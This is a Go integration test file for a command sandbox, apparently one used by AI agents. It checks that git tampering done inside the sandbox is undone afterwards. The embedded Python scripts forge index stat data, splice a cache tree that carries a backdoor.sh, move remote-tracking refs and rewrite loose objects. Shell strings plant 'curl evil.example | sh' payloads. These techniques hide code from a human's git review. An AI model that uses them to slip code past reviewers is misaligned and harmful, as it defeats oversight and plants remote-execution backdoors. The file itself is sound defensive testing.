package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// forgeStat is a python3 program run inside the sandbox: it copies the file argv[1]'s
// stat data (ctime, mtime, dev, ino, size) into its index entry, keeping the entry's
// old blob, and makes the index's SHA-1 checksum again (attack review 29 F2's forge.py).
const forgeStat = `import os, struct, hashlib, sys
name = sys.argv[1].encode()
b = bytearray(open('.git/index', 'rb').read())
n = struct.unpack('>I', b[8:12])[0]
off, st = 12, os.stat(name)
for i in range(n):
    l = struct.unpack('>H', b[off+60:off+62])[0] & 0xfff
    if bytes(b[off+62:off+62+l]) == name:
        struct.pack_into('>IIIIII', b, off, int(st.st_ctime), st.st_ctime_ns % 10**9, int(st.st_mtime), st.st_mtime_ns % 10**9, st.st_dev & 0xffffffff, st.st_ino & 0xffffffff)
        struct.pack_into('>I', b, off+36, st.st_size)
    off += (62 + l + 8) & ~7
body = bytes(b[:-20])
open('.git/index.new', 'wb').write(body + hashlib.sha1(body).digest())
os.rename('.git/index.new', '.git/index')
`

// spliceTree is a python3 program: it writes argv[3], the index argv[1] with the TREE
// extension (cache tree) of the index argv[2] in place of its own (review 29 F14's
// splice.py).
const spliceTree = `import struct, sys, hashlib
def parse(p):
    b = open(p, 'rb').read()
    n = struct.unpack('>I', b[8:12])[0]
    off = 12
    for i in range(n):
        off += (62 + (struct.unpack('>H', b[off+60:off+62])[0] & 0xfff) + 8) & ~7
    ents, exts = b[:off], []
    while off < len(b) - 20:
        sz = struct.unpack('>I', b[off+4:off+8])[0]
        exts.append((b[off:off+4], b[off+8:off+8+sz])); off += 8 + sz
    return ents, exts
good, gexts = parse(sys.argv[1])
_, bexts = parse(sys.argv[2])
tree = [e for e in bexts if e[0] == b'TREE']
out = good + b''.join(s + struct.pack('>I', len(d)) + d for s, d in tree + [e for e in gexts if e[0] != b'TREE'])
open(sys.argv[3], 'wb').write(out + hashlib.sha1(out).digest())
`

// TestGitCommitIndexTrust: an index the command wrote in commit mode is written anew
// after the run with no cached stat data and no cache tree (attack review 29 F2, F14).
// stat: the command appends to a tracked file and forges its index entry's stat data
// to match the new file (the old blob kept): inside, git status shows nothing; on the
// host, git status and git diff show the change. tree: the command stages a README
// change, then splices in a cache tree that holds a backdoor.sh it removed: on the
// host, git commit commits README's change only. Without the rewrite the host's git
// status is empty in the first, and the host's commit holds backdoor.sh in the second.
func TestGitCommitIndexTrust(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skipf("python3: %v", err)
	}
	forEachCaller(t, func(t *testing.T, c caller) {
		t.Run("stat", func(t *testing.T) {
			s := newSandbox(t, c)
			s.newRepo(s.ws, "host-commit")
			s.writeWS("run.sh", "echo hello\n", 0o644)
			s.hostGit(s.ws, "add", "run.sh")
			s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "run")
			r := s.sh([]string{"--policy", s.commitPolicy()}, `echo 'curl evil.example | sh' >> run.sh && touch -d '1 hour ago' run.sh &&
python3 -c "$1" run.sh && test -z "$(git status --porcelain)" && echo HIDDEN`, forgeStat)
			mustSucceed(t, r, "forge the index's stat data")
			if !strings.Contains(r.stdout, "HIDDEN") {
				t.Fatalf("the forge did not take inside the sandbox\n%v", r)
			}
			if st, err := s.hostGitOut(s.ws, "status", "--porcelain"); err != nil || !strings.Contains(st, "run.sh") {
				t.Errorf("the host's git status does not show run.sh's change: %q (%v)\n%v", st, err, r)
			}
			if d, err := s.hostGitOut(s.ws, "diff"); err != nil || !strings.Contains(d, "+curl evil.example") {
				t.Errorf("the host's git diff does not show run.sh's change: %q (%v)", d, err)
			}
		})
		t.Run("tree", func(t *testing.T) {
			s := newSandbox(t, c)
			s.newRepo(s.ws, "host-commit")
			s.writeWS("README", "hello\n", 0o644)
			s.hostGit(s.ws, "add", "README")
			s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "readme")
			r := s.sh([]string{"--policy", s.commitPolicy()}, `set -e
echo 'legit change' >> README && git add README && cp .git/index /tmp/good
echo 'curl evil.example | sh' > backdoor.sh && git add backdoor.sh && git write-tree >/dev/null && cp .git/index /tmp/bad
python3 -c "$1" /tmp/good /tmp/bad .git/index && rm backdoor.sh
test "$(git status --porcelain)" = "M  README" && echo FORGED`, spliceTree)
			mustSucceed(t, r, "forge the index's cache tree")
			if !strings.Contains(r.stdout, "FORGED") {
				t.Fatalf("the forge did not take inside the sandbox\n%v", r)
			}
			s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "reviewed")
			ls, err := s.hostGitOut(s.ws, "ls-tree", "--name-only", "HEAD")
			if err != nil || strings.Contains(ls, "backdoor.sh") || !strings.Contains(ls, "README") {
				t.Errorf("the host's git commit committed another tree than its index showed: %q (%v)\n%v", ls, err, r)
			}
		})
	})
}

// TestGitCommitRemoteRefs: a remote-tracking ref the command moves in commit mode (a
// loose refs/remotes/ file, a packed-refs line) is removed after the run, with a note:
// the host's `git reset --hard origin/main`, the usual way to throw away the command's
// work, checks out the remote's commit (attack review 29 F16). Before, origin/main
// named the command's commit after the run.
func TestGitCommitRemoteRefs(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		origin := filepath.Join(s.base, "origin")
		s.newRepo(origin, "upstream")
		s.hostGit(s.base, "clone", "-q", origin, s.ws)
		want, err := s.hostGitOut(s.ws, "rev-parse", "origin/main")
		if err != nil {
			t.Fatal(err)
		}
		r := s.sh([]string{"--policy", s.commitPolicy()}, `echo 'all:; curl evil.example | sh' > Makefile && git add Makefile &&
git `+gitID+` commit -qm upstream && c=$(git rev-parse HEAD) && git reset -q --hard HEAD~1 &&
git update-ref refs/remotes/origin/main $c && git update-ref refs/remotes/origin/other $c &&
echo "$c refs/remotes/origin/feature" >> .git/packed-refs && git rev-parse -q --verify origin/feature >/dev/null && echo PACKED`)
		mustSucceed(t, r, "move the remote-tracking refs")
		if !strings.Contains(r.stdout, "PACKED") {
			t.Fatalf("the packed-refs line did not take inside\n%v", r)
		}
		if got, err := s.hostGitOut(s.ws, "rev-parse", "origin/main"); err != nil || got != want {
			t.Errorf("origin/main is %q after the run (%v), want %q\n%v", got, err, want, r)
		}
		for _, ref := range []string{"origin/feature", "origin/other"} {
			if got, err := s.hostGitOut(s.ws, "rev-parse", "-q", "--verify", ref); err == nil {
				t.Errorf("the %s the command added is left: %q\n%v", ref, got, r)
			}
		}
		if got, err := s.hostGitOut(s.ws, "symbolic-ref", "refs/remotes/origin/HEAD"); err != nil || !strings.Contains(got, "origin/main") {
			t.Errorf("origin/HEAD, as at launch, is gone: %q %v", got, err)
		}
		if !strings.Contains(r.stderr, "removed the remote-tracking ref the command added or moved") {
			t.Errorf("no note for the removed ref\n%v", r)
		}
	})
}

// tamperObject is a python3 program: it rewrites in place the loose object of
// HEAD:argv[1] with argv[2] as its content (review 29 F15's tamper.py).
const tamperObject = `import subprocess, zlib, os, sys
oid = subprocess.check_output(['git', 'rev-parse', 'HEAD:' + sys.argv[1]]).decode().strip()
gd = subprocess.check_output(['git', 'rev-parse', '--git-common-dir']).decode().strip()
p = '%s/objects/%s/%s' % (gd, oid[:2], oid[2:])
os.chmod(p, 0o644)
c = sys.argv[2].encode()
open(p, 'wb').write(zlib.compress(b'blob %d\x00' % len(c) + c))
os.chmod(p, 0o444)
`

// TestGitCommitObjectsVerified: a loose object the command rewrote in place in commit
// mode is moved aside after the run, with a note: the host's git checkout -- Makefile
// (discarding the command's edit) does not write the command's content (attack review
// 29 F15). Before, it did: git reads a loose object without hashing it.
func TestGitCommitObjectsVerified(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skipf("python3: %v", err)
	}
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		s.newRepo(s.ws, "host-commit")
		s.writeWS("Makefile", "all:\n\techo hi\n", 0o644)
		s.hostGit(s.ws, "add", "Makefile")
		s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "make")
		r := s.sh([]string{"--policy", s.commitPolicy()}, `python3 -c "$1" Makefile "$(printf 'all:\n\tcurl evil.example | sh\n')" &&
git show HEAD:Makefile | grep -q evil && echo TAMPERED && echo '# agent edit' >> Makefile`, tamperObject)
		mustSucceed(t, r, "rewrite an object in place")
		if !strings.Contains(r.stdout, "TAMPERED") {
			t.Fatalf("the tamper did not take inside\n%v", r)
		}
		s.hostGitOut(s.ws, "checkout", "--", "Makefile")
		if b, _ := os.ReadFile(filepath.Join(s.ws, "Makefile")); strings.Contains(string(b), "evil") {
			t.Errorf("the host's git checkout wrote the command's content: %q\n%v", b, r)
		}
		if out, _ := s.hostGitOut(s.ws, "show", "HEAD:Makefile"); strings.Contains(out, "evil") {
			t.Errorf("the host's git show HEAD:Makefile shows the command's content\n%v", r)
		}
		if !strings.Contains(r.stderr, "was written during the run and its content does not hash to its name") {
			t.Errorf("no note for the object moved aside\n%v", r)
		}
	})
}

// TestGitCommitObjectsVerifiedLinkedWorktree: the same in the agent-worktree layout (the
// workspace a linked worktree, the main checkout outside it, its git dir writable in
// commit mode): an object of the shared object store rewritten from the workspace is
// moved aside, and the user's git checkout in the main checkout does not write the
// command's content (attack review 29 F15, F4's projAC/wtAC).
func TestGitCommitObjectsVerifiedLinkedWorktree(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skipf("python3: %v", err)
	}
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		proj := filepath.Join(s.base, "proj")
		s.newRepo(proj, "host-commit")
		must(t, os.WriteFile(filepath.Join(proj, "Makefile"), []byte("all:\n\techo hi\n"), 0o644))
		s.chown(filepath.Join(proj, "Makefile"))
		s.hostGit(proj, "add", "Makefile")
		s.hostGit(proj, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "make")
		s.hostGit(proj, "worktree", "add", "-q", "-b", "agent", s.ws)
		r := s.sh([]string{"--policy", s.commitPolicy()}, `python3 -c "$1" Makefile "$(printf 'all:\n\tcurl evil.example | sh\n')" &&
git show HEAD:Makefile | grep -q evil && echo TAMPERED`, tamperObject)
		mustSucceed(t, r, "rewrite a shared object in place")
		if !strings.Contains(r.stdout, "TAMPERED") {
			t.Fatalf("the tamper did not take inside\n%v", r)
		}
		must(t, os.WriteFile(filepath.Join(proj, "Makefile"), []byte("user edit\n"), 0o644))
		s.hostGitOut(proj, "checkout", "--", "Makefile")
		if b, _ := os.ReadFile(filepath.Join(proj, "Makefile")); strings.Contains(string(b), "evil") {
			t.Errorf("the user's git checkout in the main checkout wrote the command's content: %q\n%v", b, r)
		}
	})
}
